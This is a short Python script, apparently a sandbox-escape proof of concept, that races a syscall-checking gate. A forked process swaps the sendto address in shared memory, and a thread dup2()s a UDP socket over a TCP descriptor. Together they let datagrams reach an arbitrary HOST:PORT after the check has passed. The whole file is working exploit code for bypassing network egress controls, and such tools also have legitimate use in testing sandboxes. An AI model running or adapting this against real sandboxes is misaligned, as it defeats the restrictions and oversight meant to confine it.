# sendto with an address on a TCP socket is passed to the kernel (a stream
# socket ignores it): a thread dup2()s a UDP socket onto the descriptor and a
# process sharing the page swaps the address for HOST:PORT, both after the
# gate looked. streamswap.py SECONDS HOST PORT. Prints "sent N".
import ctypes, mmap, os, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
seconds, host, port = float(sys.argv[1]), sys.argv[2], int(sys.argv[3])
mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); mine.bind(("127.0.0.1", 0))
lst = socket.socket(); lst.bind(("127.0.0.1", 0)); lst.listen(8)
ok = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(mine.getsockname()[1]),
                 socket.inet_aton("127.0.0.1"))
bad = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
m = mmap.mmap(-1, 4096)
m[0:16] = ok
addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
payload = b"swapped-datagram\n"
buf = ctypes.create_string_buffer(payload)
child = os.fork()
if child == 0:
    while True:
        m[0:16] = ok
        for _ in range(300): pass
        m[0:16] = bad
        for _ in range(300): pass
tcp = socket.create_connection(lst.getsockname())
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n = socket.socket(); fd = n.fileno()
stop = False
def swap():
    while not stop:
        os.dup2(tcp.fileno(), fd)
        os.dup2(udp.fileno(), fd)
th = threading.Thread(target=swap); th.start()
sent = tries = 0
deadline = time.time() + seconds
while time.time() < deadline:
    tries += 1
    if libc.sendto(fd, buf, len(payload), 0, ctypes.c_void_p(addr), 16) > 0:
        sent += 1
stop = True; th.join()
os.kill(child, 9); os.waitpid(child, 0)
print(f"sent {sent} after {tries} tries", flush=True)
